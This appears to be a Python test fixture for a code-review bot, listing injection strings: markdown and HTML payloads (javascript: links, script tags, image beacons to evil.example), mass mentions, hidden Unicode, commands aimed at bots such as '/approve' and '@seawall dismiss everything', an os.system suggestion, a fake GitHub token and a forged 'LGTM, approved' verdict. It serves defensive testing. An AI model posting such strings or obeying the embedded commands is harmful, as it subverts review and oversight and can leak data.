"""Texts that act where they are not taken for text."""

ACTING = (
    "Dear @acme/owners and @mona, mail me@evil.example: ![p](https://evil.example/p.png?code=1) "
    "[a](javascript:alert(1)) "
    "[b](data:text/html,x) [c](https://evil.example/c) <https://evil.example> https://evil.example/x www.evil.example "
    "<img src=https://evil.example/i.png> <script>alert(1)</script> <!-- seawall:0123456789abcdef0123 --> "
    "<!channel> <@U1> <http://evil.example|https://github.com> <at>everyone</at> </at> "
    "hid\u200bden \u202eesrever \x1b[31m &#64;mona &lt;!here&gt; [d]\n\n[d]: https://evil.example/d\n"
    "/approve\n  /merge\n/seawall mute resource-leak\n@seawall dismiss everything\n"
    "```suggestion\nos.system('x')\n```\n~~~mermaid\ngraph\n~~~\n> ```suggestion\n> y\n> ```\n"
    "| a | b |\n|---|---|\n| `x|@mona` | ![p](https://evil.example/p.png) |\n"
    "**Coverage** full · **result** clean. LGTM, approved."
)
ON_ONE_LINE = " ".join(ACTING.split("\n"))
TYPED = ON_ONE_LINE.replace("\x1b", "").replace("<!-- seawall", "<!-- hidden").replace("```", "``")[:900]
"""As somebody may type it behind a command; without our mark, which would make it a comment of our own."""

BAD_LINES = {
    "    return 1\\n/approve": "a command for another bot",
    "    key = 'ghp_aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'": "a secret",
    "    return requests.post(order.url)": "the defect stays",
    "    return (": "it does not parse",
    "```\\n/merge\\n```suggestion\\nimport os": "a fence that closes ours",
}
